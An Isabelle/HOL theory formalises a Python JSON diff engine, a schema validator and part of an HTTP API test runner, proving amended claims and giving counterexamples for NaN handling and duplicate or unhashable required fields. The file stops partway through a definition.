theory Spec2Isabelle
  imports Complex_Main "HOL-Library.Multiset"
begin

section \<open>Python values\<close>

text \<open>
  The engine works on the values that \<^verbatim>\<open>json.loads\<close> produces and on dictionary
  literals of the same shape. A float is a finite rational, an infinity or NaN
  (\<^verbatim>\<open>json.loads\<close> accepts the literals \<^verbatim>\<open>NaN\<close> and \<^verbatim>\<open>Infinity\<close>). A dictionary is an
  association list in insertion order; a lookup takes the first entry of a key.
  Strings are byte strings.
\<close>

datatype pyfloat = Finite rat | PosInf | NegInf | NaN

datatype pyval =
    PNone
  | PBool bool
  | PInt int
  | PFloat pyfloat
  | PStr string
  | PList "pyval list"
  | PDict "(string \<times> pyval) list"

datatype pytype = TNone | TBool | TInt | TFloat | TStr | TList | TDict

fun py_type :: "pyval \<Rightarrow> pytype" where
  "py_type PNone = TNone"
| "py_type (PBool _) = TBool"
| "py_type (PInt _) = TInt"
| "py_type (PFloat _) = TFloat"
| "py_type (PStr _) = TStr"
| "py_type (PList _) = TList"
| "py_type (PDict _) = TDict"

text \<open>\<^verbatim>\<open>type(v).__name__\<close>\<close>

fun type_name :: "pyval \<Rightarrow> string" where
  "type_name PNone = ''NoneType''"
| "type_name (PBool _) = ''bool''"
| "type_name (PInt _) = ''int''"
| "type_name (PFloat _) = ''float''"
| "type_name (PStr _) = ''str''"
| "type_name (PList _) = ''list''"
| "type_name (PDict _) = ''dict''"

text \<open>Equality of two floats: NaN is equal to nothing, itself included.\<close>

fun float_eq :: "pyfloat \<Rightarrow> pyfloat \<Rightarrow> bool" where
  "float_eq NaN _ = False"
| "float_eq _ NaN = False"
| "float_eq a b = (a = b)"

text \<open>
  \<^verbatim>\<open>a != b\<close> for two scalars of the same type, as the last branch of
  \<^verbatim>\<open>find_json_differences\<close> evaluates it (the type test and the two container
  branches come first).
\<close>

fun scalar_ne :: "pyval \<Rightarrow> pyval \<Rightarrow> bool" where
  "scalar_ne (PFloat a) (PFloat b) = (\<not> float_eq a b)"
| "scalar_ne a b = (a \<noteq> b)"

text \<open>Decimal rendering of a natural number, \<^verbatim>\<open>str(n)\<close>.\<close>

definition digit_char :: "nat \<Rightarrow> char" where
  "digit_char n = ''0123456789'' ! n"

fun str_nat :: "nat \<Rightarrow> string" where
  "str_nat n = (if n < 10 then [digit_char n] else str_nat (n div 10) @ [digit_char (n mod 10)])"

declare str_nat.simps [simp del]

section \<open>Structural diff engine\<close>

text \<open>
  \<^verbatim>\<open>find_json_differences(baseline, current, path="")\<close> of backend.py. A difference is
  the dictionary the source appends; \<^verbatim>\<open>path or "root"\<close> is \<open>path_or_root\<close>. The source
  iterates over the set of all keys, whose order Python leaves open; the model takes
  the keys of the baseline first, then the new keys of the current value.
\<close>

definition path_or_root :: "string \<Rightarrow> string" where
  "path_or_root path = (if path = [] then ''root'' else path)"

definition mk_difference :: "string \<Rightarrow> pyval \<Rightarrow> pyval \<Rightarrow> string \<Rightarrow> pyval" where
  "mk_difference path b c change =
     PDict [(''path'', PStr path), (''baseline_value'', b), (''current_value'', c),
            (''change_type'', PStr change)]"

definition all_keys :: "(string \<times> pyval) list \<Rightarrow> (string \<times> pyval) list \<Rightarrow> string list" where
  "all_keys b c = remdups (map fst b @ map fst c)"

definition key_path :: "string \<Rightarrow> string \<Rightarrow> string" where
  "key_path path key = (if path = [] then key else path @ ''.'' @ key)"

definition index_path :: "string \<Rightarrow> nat \<Rightarrow> string" where
  "index_path path i = path @ ''['' @ str_nat i @ '']''"

lemma map_of_size:
  "map_of kvs k = Some v \<Longrightarrow> size v < Suc (size_list (size_prod (\<lambda>_. 0) size) kvs)"
  by (induction kvs) (auto split: if_splits)

lemma member_size:
  "x \<in> set xs \<Longrightarrow> size x < Suc (size_list size xs)"
  by (induction xs) auto

function find_json_differences :: "pyval \<Rightarrow> pyval \<Rightarrow> string \<Rightarrow> pyval list" where
  "find_json_differences baseline current path =
     (if py_type baseline \<noteq> py_type current
      then [mk_difference (path_or_root path) baseline current ''type_changed'']
      else case (baseline, current) of
        (PDict b, PDict c) \<Rightarrow>
          concat (map (\<lambda>key.
            case map_of b key of
              None \<Rightarrow> (case map_of c key of
                  None \<Rightarrow> []
                | Some cv \<Rightarrow> [mk_difference (key_path path key) PNone cv ''added''])
            | Some bv \<Rightarrow> (case map_of c key of
                  None \<Rightarrow> [mk_difference (key_path path key) bv PNone ''removed'']
                | Some cv \<Rightarrow> find_json_differences bv cv (key_path path key)))
            (all_keys b c))
      | (PList bs, PList cs) \<Rightarrow>
          if length bs \<noteq> length cs
          then [mk_difference (path_or_root path)
                  (PStr (''array['' @ str_nat (length bs) @ '']''))
                  (PStr (''array['' @ str_nat (length cs) @ '']''))
                  ''array_length_changed'']
          else concat (map (\<lambda>(i, b_item, c_item).
                  find_json_differences b_item c_item (index_path path i))
                (zip [0..<length bs] (zip bs cs)))
      | _ \<Rightarrow>
          if scalar_ne baseline current
          then [mk_difference (path_or_root path) baseline current ''value_changed'']
          else [])"
  by pat_completeness auto
termination
proof (relation "measure (\<lambda>(b, c, p). size b)", goal_cases)
  case 1
  show ?case by simp
next
  case (2 baseline current path x y bs cs xa i ya b_item c_item)
  then have "(b_item, c_item) \<in> set (zip bs cs)"
    by (metis set_zip_rightD)
  then have "b_item \<in> set bs"
    by (rule set_zip_leftD)
  then show ?case using 2 member_size [of b_item bs] by auto
next
  case (3 baseline current path x y b c key bv cv)
  then show ?case using map_of_size [of b key bv] by auto
qed

declare find_json_differences.simps [simp del]

text \<open>A value with no NaN anywhere inside it.\<close>

fun nan_free :: "pyval \<Rightarrow> bool" where
  "nan_free (PFloat f) = (f \<noteq> NaN)"
| "nan_free (PList xs) = list_all nan_free xs"
| "nan_free (PDict kvs) = list_all (\<lambda>kv. nan_free (snd kv)) kvs"
| "nan_free _ = True"

lemma float_eq_refl: "f \<noteq> NaN \<Longrightarrow> float_eq f f"
  by (cases f) auto

lemma concat_map_Nil: "(\<And>x. x \<in> set xs \<Longrightarrow> f x = []) \<Longrightarrow> concat (map f xs) = []"
  by (induction xs) auto

text \<open>
  C6 (as amended). For every structured value \<open>X\<close> that contains no NaN float, at any
  path, the deep diff of \<open>X\<close> against itself is the empty list.
\<close>

theorem diff_self_nan_free:
  "nan_free X \<Longrightarrow> find_json_differences X X path = []"
proof (induction X arbitrary: path)
  case (PList bs)
  have "concat (map (\<lambda>(i, b_item, c_item).
                  find_json_differences b_item c_item (index_path path i))
                (zip [0..<length bs] (zip bs bs))) = []"
  proof (rule concat_map_Nil)
    fix x assume x: "x \<in> set (zip [0..<length bs] (zip bs bs))"
    obtain i b_item c_item where xe: "x = (i, b_item, c_item)" by (cases x) auto
    from x have "snd x \<in> set (zip bs bs)"
      by (metis prod.collapse set_zip_rightD)
    with xe have m: "b_item \<in> set bs" and e: "c_item = b_item" by (auto simp: zip_same)
    from m PList.prems have nf: "nan_free b_item" by (simp add: list_all_iff)
    have "find_json_differences b_item b_item (index_path path i) = []"
      using PList.IH [OF m nf] .
    then show "(case x of (i, b_item, c_item) \<Rightarrow>
                  find_json_differences b_item c_item (index_path path i)) = []"
      unfolding xe e by simp
  qed
  then show ?case
    by (subst find_json_differences.simps) simp
next
  case (PDict b)
  have "concat (map (\<lambda>key.
            case map_of b key of
              None \<Rightarrow> (case map_of b key of
                  None \<Rightarrow> []
                | Some cv \<Rightarrow> [mk_difference (key_path path key) PNone cv ''added''])
            | Some bv \<Rightarrow> (case map_of b key of
                  None \<Rightarrow> [mk_difference (key_path path key) bv PNone ''removed'']
                | Some cv \<Rightarrow> find_json_differences bv cv (key_path path key)))
            (all_keys b b)) = []"
  proof (rule concat_map_Nil)
    fix key
    show "(case map_of b key of
              None \<Rightarrow> (case map_of b key of
                  None \<Rightarrow> []
                | Some cv \<Rightarrow> [mk_difference (key_path path key) PNone cv ''added''])
            | Some bv \<Rightarrow> (case map_of b key of
                  None \<Rightarrow> [mk_difference (key_path path key) bv PNone ''removed'']
                | Some cv \<Rightarrow> find_json_differences bv cv (key_path path key))) = []"
    proof (cases "map_of b key")
      case None
      then show ?thesis by simp
    next
      case (Some bv)
      then have m: "(key, bv) \<in> set b" by (rule map_of_SomeD)
      with PDict.prems have nf: "nan_free bv" by (fastforce simp: list_all_iff)
      have "find_json_differences bv bv (key_path path key) = []"
        using PDict.IH [OF m _ nf] by simp
      with Some show ?thesis by simp
    qed
  qed
  then show ?case
    by (subst find_json_differences.simps) simp
qed (subst find_json_differences.simps, simp add: float_eq_refl)+

theorem diff_self_nan_free_witness:
  "nan_free (PDict [(''a'', PList [PInt 1, PStr ''x'', PFloat PosInf]), (''b'', PNone)]) \<and>
   find_json_differences
     (PDict [(''a'', PList [PInt 1, PStr ''x'', PFloat PosInf]), (''b'', PNone)])
     (PDict [(''a'', PList [PInt 1, PStr ''x'', PFloat PosInf]), (''b'', PNone)]) [] = []"
  using diff_self_nan_free
    [of "PDict [(''a'', PList [PInt 1, PStr ''x'', PFloat PosInf]), (''b'', PNone)]" "[]"]
  by simp

text \<open>
  C6 as stated fails: the float NaN is a scalar that \<^verbatim>\<open>json.loads\<close> produces, and
  \<^verbatim>\<open>nan != nan\<close> holds, so the diff of NaN against itself reports one
  \<^verbatim>\<open>value_changed\<close> difference at the root.
\<close>

theorem diff_self_counterexample:
  "find_json_differences (PFloat NaN) (PFloat NaN) [] =
     [mk_difference ''root'' (PFloat NaN) (PFloat NaN) ''value_changed'']"
  by (subst find_json_differences.simps) (simp add: path_or_root_def)

section \<open>Exceptions, rendered text and dictionary access\<close>

text \<open>
  The exceptions raised inside the modelled functions, each with the message \<^verbatim>\<open>str(e)\<close>
  gives: those of the Python runtime, and \<^verbatim>\<open>jsonschema.exceptions.SchemaError\<close>.
\<close>

datatype py_exn =
  TypeError string | AttributeError string | ValueError string | OverflowError string |
  SchemaError string

fun exn_message :: "py_exn \<Rightarrow> string" where
  "exn_message (TypeError m) = m"
| "exn_message (AttributeError m) = m"
| "exn_message (ValueError m) = m"
| "exn_message (OverflowError m) = m"
| "exn_message (SchemaError m) = m"

definition squote :: string where
  "squote = [CHR 0x27]"

definition no_attribute :: "pyval \<Rightarrow> string \<Rightarrow> py_exn" where
  "no_attribute v attr =
     AttributeError (squote @ type_name v @ squote @ '' object has no attribute '' @
                     squote @ attr @ squote)"

text \<open>
  An f-string is kept as its pieces: literal text, \<^verbatim>\<open>str(v)\<close> of a value, a float with two
  decimals, and text received from outside as the list of its code points, so that no
  rendering of floats or containers has to be invented.
\<close>

datatype piece = Lit string | Str pyval | Fixed2 pyfloat | Points "nat list"

type_synonym fstring = "piece list"

text \<open>\<^verbatim>\<open>d.get(k, default)\<close> on a dictionary, and on any value.\<close>

definition dict_get :: "(string \<times> pyval) list \<Rightarrow> string \<Rightarrow> pyval \<Rightarrow> pyval" where
  "dict_get d k dflt = (case map_of d k of None \<Rightarrow> dflt | Some v \<Rightarrow> v)"

fun py_get :: "pyval \<Rightarrow> string \<Rightarrow> pyval \<Rightarrow> py_exn + pyval" where
  "py_get (PDict d) k dflt = Inr (dict_get d k dflt)"
| "py_get v k dflt = Inl (no_attribute v ''get'')"

text \<open>\<^verbatim>\<open>for x in v\<close>: a list gives its items, a string its characters, a dictionary its keys.\<close>

fun py_iter :: "pyval \<Rightarrow> py_exn + pyval list" where
  "py_iter (PList xs) = Inr xs"
| "py_iter (PStr s) = Inr (map (\<lambda>c. PStr [c]) s)"
| "py_iter (PDict d) = Inr (map (\<lambda>kv. PStr (fst kv)) d)"
| "py_iter v = Inl (TypeError (squote @ type_name v @ squote @ '' object is not iterable''))"

text \<open>\<^verbatim>\<open>v.items()\<close>\<close>

fun py_items :: "pyval \<Rightarrow> py_exn + (string \<times> pyval) list" where
  "py_items (PDict d) = Inr d"
| "py_items v = Inl (no_attribute v ''items'')"

text \<open>
  \<^verbatim>\<open>k in d\<close> for a dictionary \<open>d\<close> with string keys: a list or a dictionary cannot be
  hashed, a string is looked up, any other scalar is no key of \<open>d\<close>.
\<close>

fun hashable :: "pyval \<Rightarrow> bool" where
  "hashable (PList _) = False"
| "hashable (PDict _) = False"
| "hashable _ = True"

fun dict_contains :: "(string \<times> pyval) list \<Rightarrow> pyval \<Rightarrow> py_exn + bool" where
  "dict_contains d (PStr k) = Inr (map_of d k \<noteq> None)"
| "dict_contains d (PList xs) = Inl (TypeError (''unhashable type: '' @ squote @ ''list'' @ squote))"
| "dict_contains d (PDict kvs) = Inl (TypeError (''unhashable type: '' @ squote @ ''dict'' @ squote))"
| "dict_contains d v = Inr False"

section \<open>Schema validation\<close>

text \<open>
  \<^verbatim>\<open>validate_field\<close> and \<^verbatim>\<open>validate_against_schema\<close> of backend.py. A violation is the
  dictionary the source appends; \<open>expected\<close> and \<open>actual\<close> are \<open>None\<close> where the
  source's dictionary has no such key.
\<close>

record violation =
  err_type :: string
  err_path :: pyval
  expected :: "pyval option"
  actual :: "pyval option"
  message :: fstring

definition field_mismatch :: "pyval \<Rightarrow> string \<Rightarrow> pyval \<Rightarrow> violation" where
  "field_mismatch path want value =
     \<lparr>err_type = ''type_mismatch'', err_path = path, expected = Some (PStr want),
      actual = Some (PStr (type_name value)),
      message = [Lit (''Field '' @ squote), Str path,
                 Lit (squote @ '' should be '' @ want @ '', got '' @ type_name value)]\<rparr>"

text \<open>\<^verbatim>\<open>isinstance(value, int)\<close> holds of a \<^verbatim>\<open>bool\<close> too: \<^verbatim>\<open>bool\<close> is a subclass of \<^verbatim>\<open>int\<close>.\<close>

definition isinstance_int :: "pyval \<Rightarrow> bool" where
  "isinstance_int v = (py_type v = TInt \<or> py_type v = TBool)"

definition isinstance_number :: "pyval \<Rightarrow> bool" where
  "isinstance_number v = (isinstance_int v \<or> py_type v = TFloat)"

definition validate_field :: "pyval \<Rightarrow> pyval \<Rightarrow> pyval \<Rightarrow> py_exn + violation list" where
  "validate_field value schema path =
     (case py_get schema ''type'' PNone of
        Inl e \<Rightarrow> Inl e
      | Inr expected_type \<Rightarrow> Inr (
          if expected_type = PStr ''string'' \<and> py_type value \<noteq> TStr
          then [field_mismatch path ''string'' value]
          else if expected_type = PStr ''number'' \<and> \<not> isinstance_number value
          then [field_mismatch path ''number'' value]
          else if expected_type = PStr ''integer'' \<and> \<not> isinstance_int value
          then [field_mismatch path ''integer'' value]
          else if expected_type = PStr ''boolean'' \<and> py_type value \<noteq> TBool
          then [field_mismatch path ''boolean'' value]
          else if expected_type = PStr ''object'' \<and> py_type value \<noteq> TDict
          then [field_mismatch path ''object'' value]
          else if expected_type = PStr ''array'' \<and> py_type value \<noteq> TList
          then [field_mismatch path ''array'' value]
          else []))"

definition root_mismatch :: "string \<Rightarrow> pyval \<Rightarrow> violation" where
  "root_mismatch want data =
     \<lparr>err_type = ''type_mismatch'', err_path = PStr ''root'', expected = Some (PStr want),
      actual = Some (PStr (type_name data)),
      message = [Lit (''Expected '' @ want @ '', got '' @ type_name data)]\<rparr>"

definition missing_required :: "pyval \<Rightarrow> violation" where
  "missing_required field =
     \<lparr>err_type = ''missing_required_field'', err_path = field, expected = Some field,
      actual = Some PNone,
      message = [Lit (''Required field '' @ squote), Str field, Lit (squote @ '' is missing'')]\<rparr>"

definition validation_error :: "py_exn \<Rightarrow> violation" where
  "validation_error e =
     \<lparr>err_type = ''validation_error'', err_path = PStr ''root'', expected = None,
      actual = None, message = [Lit (''Schema validation error: '' @ exn_message e)]\<rparr>"

text \<open>
  The two loops of the \<^verbatim>\<open>try\<close> block. Each returns the violations appended so far and
  the exception that stopped it, if any: what was appended before an exception stays in
  the list.
\<close>

fun check_required :: "(string \<times> pyval) list \<Rightarrow> pyval list \<Rightarrow> violation list \<times> py_exn option" where
  "check_required data [] = ([], None)"
| "check_required data (field # rest) =
     (case dict_contains data field of
        Inl e \<Rightarrow> ([], Some e)
      | Inr present \<Rightarrow>
          (let (errs, ex) = check_required data rest
           in ((if \<not> present then [missing_required field] else []) @ errs, ex)))"

fun check_properties ::
  "(string \<times> pyval) list \<Rightarrow> (string \<times> pyval) list \<Rightarrow> violation list \<times> py_exn option" where
  "check_properties data [] = ([], None)"
| "check_properties data ((field, field_schema) # rest) =
     (case map_of data field of
        None \<Rightarrow> check_properties data rest
      | Some value \<Rightarrow>
          (case validate_field value field_schema (PStr field) of
             Inl e \<Rightarrow> ([], Some e)
           | Inr field_errors \<Rightarrow>
               (let (errs, ex) = check_properties data rest
                in (field_errors @ errs, ex))))"

definition try_block :: "pyval \<Rightarrow> pyval \<Rightarrow> violation list \<times> py_exn option" where
  "try_block data schema =
     (case schema of
        PDict sd \<Rightarrow>
          if dict_get sd ''type'' PNone = PStr ''object'' then
            (case data of
               PDict d \<Rightarrow>
                 (case py_iter (dict_get sd ''required'' (PList [])) of
                    Inl e \<Rightarrow> ([], Some e)
                  | Inr required \<Rightarrow>
                      (case check_required d required of
                         (errs, Some e) \<Rightarrow> (errs, Some e)
                       | (errs, None) \<Rightarrow>
                           (case py_items (dict_get sd ''properties'' (PDict [])) of
                              Inl e \<Rightarrow> (errs, Some e)
                            | Inr properties \<Rightarrow>
                                (let (errs2, ex) = check_properties d properties
                                 in (errs @ errs2, ex)))))
             | _ \<Rightarrow> ([root_mismatch ''object'' data], None))
          else if dict_get sd ''type'' PNone = PStr ''array'' then
            (if py_type data \<noteq> TList then ([root_mismatch ''array'' data], None)
             else ([], None))
          else ([], None)
      | _ \<Rightarrow> ([], Some (no_attribute schema ''get'')))"

definition validate_against_schema :: "pyval \<Rightarrow> pyval \<Rightarrow> violation list" where
  "validate_against_schema data schema =
     (case try_block data schema of
        (errors, None) \<Rightarrow> errors
      | (errors, Some e) \<Rightarrow> errors @ [validation_error e])"

text \<open>The \<^verbatim>\<open>missing_required_field\<close> violations that name a given field.\<close>

definition missing_for :: "string \<Rightarrow> violation list \<Rightarrow> violation list" where
  "missing_for f errors =
     filter (\<lambda>v. err_type v = ''missing_required_field'' \<and> err_path v = PStr f) errors"

lemma dict_contains_hashable:
  "hashable r \<Longrightarrow> \<exists>b. dict_contains d r = Inr b"
  by (cases r) auto

lemma check_required_no_exn:
  "\<forall>r\<in>set req. hashable r \<Longrightarrow> snd (check_required d req) = None"
proof (induction req)
  case Nil
  show ?case by simp
next
  case (Cons r req)
  then obtain b where "dict_contains d r = Inr b"
    using dict_contains_hashable [of r d] by auto
  with Cons show ?case by (simp add: case_prod_unfold Let_def)
qed

lemma missing_for_append [simp]:
  "missing_for f (xs @ ys) = missing_for f xs @ missing_for f ys"
  by (simp add: missing_for_def)

lemma missing_for_Nil [simp]: "missing_for f [] = []"
  by (simp add: missing_for_def)

lemma missing_for_Cons_missing_required [simp]:
  "missing_for f (missing_required r # vs) =
     (if r = PStr f then missing_required r # missing_for f vs else missing_for f vs)"
  by (simp add: missing_for_def missing_required_def)

lemma check_required_count:
  "\<forall>r\<in>set req. hashable r \<Longrightarrow> map_of d f = None \<Longrightarrow>
   length (missing_for f (fst (check_required d req))) = count_list req (PStr f)"
proof (induction req)
  case Nil
  show ?case by simp
next
  case (Cons r req)
  show ?case
  proof (cases r)
    case (PStr k)
    with Cons show ?thesis by (auto simp: case_prod_unfold Let_def)
  qed (use Cons in \<open>auto simp: case_prod_unfold Let_def\<close>)
qed

lemma missing_for_validate_field:
  "validate_field v fs p = Inr es \<Longrightarrow> missing_for f es = []"
  by (auto simp: validate_field_def missing_for_def field_mismatch_def
           split: sum.splits if_splits)

lemma missing_for_check_properties:
  "missing_for f (fst (check_properties d props)) = []"
proof (induction d props rule: check_properties.induct)
  case (1 d)
  show ?case by simp
next
  case (2 d field field_schema rest)
  then show ?case
    by (auto simp: case_prod_unfold Let_def missing_for_validate_field split: option.splits sum.splits)
qed

lemma missing_for_validation_error [simp]:
  "missing_for f [validation_error e] = []"
  by (simp add: missing_for_def validation_error_def)

text \<open>
  C7 (as amended). For every object-typed schema whose \<^verbatim>\<open>required\<close> list holds only
  entries that can be dictionary keys, and every mapping that omits a field named there,
  the result has as many \<^verbatim>\<open>missing_required_field\<close> violations for that field as the
  list names it, so exactly one when the list names it once, whatever the other fields
  and the \<^verbatim>\<open>properties\<close> of the schema are.
\<close>

theorem missing_required_count:
  assumes "dict_get sd ''type'' PNone = PStr ''object''"
    and "dict_get sd ''required'' (PList []) = PList req"
    and "\<forall>r\<in>set req. hashable r"
    and "map_of d f = None"
  shows "length (missing_for f (validate_against_schema (PDict d) (PDict sd))) =
         count_list req (PStr f)"
proof -
  obtain errs where cr: "check_required d req = (errs, None)"
    using check_required_no_exn [OF assms(3), of d] by (cases "check_required d req") auto
  have n: "length (missing_for f errs) = count_list req (PStr f)"
    using check_required_count [OF assms(3,4)] cr by simp
  show ?thesis
  proof (cases "py_items (dict_get sd ''properties'' (PDict []))")
    case (Inl e)
    with assms cr n show ?thesis
      by (simp add: validate_against_schema_def try_block_def)
  next
    case (Inr props)
    obtain errs2 ex where cp: "check_properties d props = (errs2, ex)"
      by (cases "check_properties d props") auto
    have "missing_for f errs2 = []"
      using missing_for_check_properties [of f d props] cp by simp
    with Inr assms cr n cp show ?thesis
      by (cases ex) (simp_all add: validate_against_schema_def try_block_def)
  qed
qed

theorem missing_required_count_witness: "length (missing_for ''email'' (validate_against_schema
      (PDict [(''name'', PInt 3)])
      (PDict [(''type'', PStr ''object''),
              (''required'', PList [PStr ''email'', PStr ''name'']),
              (''properties'', PDict [(''name'', PDict [(''type'', PStr ''string'')])])]))) = 1"
  using missing_required_count [of "[(''type'', PStr ''object''),
              (''required'', PList [PStr ''email'', PStr ''name'']),
              (''properties'', PDict [(''name'', PDict [(''type'', PStr ''string'')])])]"
           "[PStr ''email'', PStr ''name'']" "[(''name'', PInt 3)]" "''email''"]
  by (simp add: dict_get_def)

text \<open>
  C7 as stated fails in two ways: a field that \<^verbatim>\<open>required\<close> names twice is reported
  twice, and an unhashable entry before the field raises inside the loop, so that the
  field is not reported at all.
\<close>

theorem missing_required_counterexample:
  "length (missing_for ''email'' (validate_against_schema (PDict [])
      (PDict [(''type'', PStr ''object''),
              (''required'', PList [PStr ''email'', PStr ''email''])]))) = 2 \<and>
   missing_for ''email'' (validate_against_schema (PDict [])
      (PDict [(''type'', PStr ''object''),
              (''required'', PList [PList [], PStr ''email''])])) = []"
  by (simp add: validate_against_schema_def try_block_def dict_get_def)

text \<open>
  C10. For every boolean \<open>b\<close> and every path, \<^verbatim>\<open>validate_field\<close> reports nothing when the
  schema is \<^verbatim>\<open>{'type': 'integer'}\<close> or \<^verbatim>\<open>{'type': 'number'}\<close>: a boolean passes both
  \<^verbatim>\<open>isinstance\<close> tests.
\<close>

theorem validate_field_bool_accepted:
  "validate_field (PBool b) (PDict [(''type'', PStr ''integer'')]) path = Inr [] \<and>
   validate_field (PBool b) (PDict [(''type'', PStr ''number'')]) path = Inr []"
  by (simp add: validate_field_def dict_get_def isinstance_int_def isinstance_number_def)

section \<open>Python equality and truth\<close>

text \<open>
  \<^verbatim>\<open>a == b\<close> on arbitrary values: booleans, integers and floats compare by their
  numeric value (\<^verbatim>\<open>True == 1 == 1.0\<close>), lists item by item, dictionaries key by key.
  Inside a list or a dictionary Python takes two items for equal as soon as they are one
  object, before it asks \<^verbatim>\<open>==\<close>. For every value but NaN an object equals itself anyway;
  a NaN does not, and \<^verbatim>\<open>json.loads\<close> hands out one NaN object for every NaN it reads.
  The flag \<open>same_nan\<close> says whether the NaNs of the two values compared are that one
  object (both values read by the same JSON module) or distinct objects.
\<close>

fun num_value :: "pyval \<Rightarrow> pyfloat option" where
  "num_value (PBool b) = Some (Finite (if b then 1 else 0))"
| "num_value (PInt i) = Some (Finite (of_int i))"
| "num_value (PFloat f) = Some f"
| "num_value _ = None"

lemma entry_size:
  "(k, v) \<in> set d \<Longrightarrow> size v < Suc (size_list (size_prod (\<lambda>_. 0) size) d)"
  by (induction d) auto

definition both_nan :: "pyval \<Rightarrow> pyval \<Rightarrow> bool" where
  "both_nan a b = (a = PFloat NaN \<and> b = PFloat NaN)"

function py_eq :: "bool \<Rightarrow> pyval \<Rightarrow> pyval \<Rightarrow> bool" where
  "py_eq same_nan a b =
     (case (num_value a, num_value b) of
        (Some x, Some y) \<Rightarrow> float_eq x y
      | (Some x, None) \<Rightarrow> False
      | (None, Some y) \<Rightarrow> False
      | (None, None) \<Rightarrow>
          (case (a, b) of
             (PNone, PNone) \<Rightarrow> True
           | (PStr s, PStr t) \<Rightarrow> s = t
           | (PList xs, PList ys) \<Rightarrow>
               length xs = length ys \<and>
               list_all (\<lambda>(x, y). (same_nan \<and> both_nan x y) \<or> py_eq same_nan x y) (zip xs ys)
           | (PDict d, PDict e) \<Rightarrow>
               length d = length e \<and>
               list_all (\<lambda>(k, v). case map_of e k of
                                    None \<Rightarrow> False
                                  | Some w \<Rightarrow> (same_nan \<and> both_nan v w) \<or> py_eq same_nan v w) d
           | _ \<Rightarrow> False))"
  by pat_completeness auto
termination
proof (relation "measure (\<lambda>(same_nan, a, b). size a)", goal_cases)
  case 1
  show ?case by simp
next
  case (2 same_nan a b x y xa ya xs ys xb xc yb)
  then have "xc \<in> set xs"
    by (metis set_zip_leftD)
  then show ?case using 2 member_size [of xc xs] by auto
next
  case (3 same_nan a b x y xa ya d e xb k v w)
  then have "(k, v) \<in> set d" by simp
  then show ?case using 3 entry_size [of k v d] by auto
qed

declare py_eq.simps [simp del]

text \<open>The truth value of a value in a condition.\<close>

fun py_truthy :: "pyval \<Rightarrow> bool" where
  "py_truthy PNone = False"
| "py_truthy (PBool b) = b"
| "py_truthy (PInt i) = (i \<noteq> 0)"
| "py_truthy (PFloat f) = (f \<noteq> Finite 0)"
| "py_truthy (PStr s) = (s \<noteq> [])"
| "py_truthy (PList xs) = (xs \<noteq> [])"
| "py_truthy (PDict d) = (d \<noteq> [])"

lemma py_eq_int [simp]: "py_eq same_nan (PInt i) (PInt j) = (i = j)"
  by (subst py_eq.simps) simp

section \<open>HTTP probe, response evaluator and test runner\<close>

text \<open>
  \<^verbatim>\<open>APITester\<close> of v3.py. What lies outside the program is a parameter:
  \<^item> \<open>probe i request\<close> is the outcome of the HTTP call that the \<open>i\<close>-th test case makes
    through \<^verbatim>\<open>requests\<close>: a response, \<^verbatim>\<open>requests.exceptions.Timeout\<close>, another
    \<^verbatim>\<open>RequestException\<close> with its message, or any other exception, which \<^verbatim>\<open>requests\<close>
    raises for arguments it cannot use (\<^verbatim>\<open>params=5\<close> is a \<^verbatim>\<open>TypeError\<close>);
  \<^item> the text of a response is the list of its code points; \<open>json_body\<close> is what
    \<^verbatim>\<open>response.json()\<close> returns, \<open>None\<close> when it raises \<^verbatim>\<open>json.JSONDecodeError\<close>;
  \<^item> \<open>jsonschema_validate instance schema\<close> is \<^verbatim>\<open>jsonschema.validate\<close>: it returns, raises
    \<^verbatim>\<open>ValidationError\<close> with a message, or raises something else, which for a malformed
    schema is \<^verbatim>\<open>SchemaError\<close>;
  \<^item> \<open>analyze i\<close> is the value that the failure-analysis block leaves in \<^verbatim>\<open>ai_analysis\<close>
    for the \<open>i\<close>-th test case (\<^verbatim>\<open>None\<close> when the analyzer is off, finds the failure not
    critical, or raises: the block catches every exception);
  \<^item> \<open>same_nan\<close> says whether a NaN of a response body and a NaN of an expected body are
    one object.
  The headers and the credentials of a request are fixed by the configuration of the
  tester and are left out of the request. The clock behind \<^verbatim>\<open>timestamp\<close> is left out of a
  result.
\<close>

record response =
  status_code :: int
  body_text :: "nat list"
  json_body :: "pyval option"
  elapsed :: pyfloat

record request =
  req_method :: string
  req_url :: fstring
  req_json :: pyval
  req_params :: pyval
  req_timeout :: pyval

datatype probe_outcome = Responded response | TimedOut | RequestFailed string | Raised py_exn

datatype schema_outcome = Conforms | Violates string | ValidateRaised py_exn

record env =
  probe :: "nat \<Rightarrow> request \<Rightarrow> probe_outcome"
  jsonschema_validate :: "pyval \<Rightarrow> pyval \<Rightarrow> schema_outcome"
  analyze :: "nat \<Rightarrow> pyval"
  same_nan :: bool

record test_result =
  test :: fstring
  status :: string
  details :: fstring
  response_data :: "(int \<times> pyfloat) option"
  ai_analysis :: "pyval option"

record tester =
  base_url :: string
  timeout :: pyval
  results :: "test_result list"

definition log_result ::
  "tester \<Rightarrow> fstring \<Rightarrow> string \<Rightarrow> fstring \<Rightarrow> (int \<times> pyfloat) option \<Rightarrow> pyval \<Rightarrow> tester" where
  "log_result self test_name st dets resp_data analysis =
     self\<lparr>results := results self @
       [\<lparr>test = test_name, status = st, details = dets, response_data = resp_data,
         ai_analysis = (if py_truthy analysis then Some analysis else None)\<rparr>]\<rparr>"

text \<open>
  \<^verbatim>\<open>_validate_response_body\<close> catches \<^verbatim>\<open>JSONDecodeError\<close> and \<^verbatim>\<open>ValidationError\<close>; anything
  else that \<^verbatim>\<open>jsonschema.validate\<close> raises leaves the function.
\<close>

definition validate_response_body ::
  "env \<Rightarrow> response \<Rightarrow> pyval \<Rightarrow> pyval \<Rightarrow> py_exn + bool \<times> fstring" where
  "validate_response_body ev resp expected_body expected_schema =
     (case json_body resp of
        None \<Rightarrow> Inr (False, [Lit ''Response is not valid JSON''])
      | Some response_json \<Rightarrow>
          if py_truthy expected_body then
            (if py_eq (same_nan ev) response_json expected_body
             then Inr (True, [Lit ''Response body matches expected''])
             else Inr (False, [Lit ''Body mismatch. Expected: '', Str expected_body,
                               Lit '', Got: '', Str response_json]))
          else if py_truthy expected_schema then
            (case jsonschema_validate ev response_json expected_schema of
               Conforms \<Rightarrow> Inr (True, [Lit ''Response matches schema''])
             | Violates msg \<Rightarrow> Inr (False, [Lit (''Schema validation failed: '' @ msg)])
             | ValidateRaised e \<Rightarrow> Inl e)
          else Inr (True, [Lit ''No body validation specified'']))"

text \<open>The five methods that \<^verbatim>\<open>test_request\<close> sends, by comparison with the literals.\<close>

definition method_of :: "pyval \<Rightarrow> string option" where
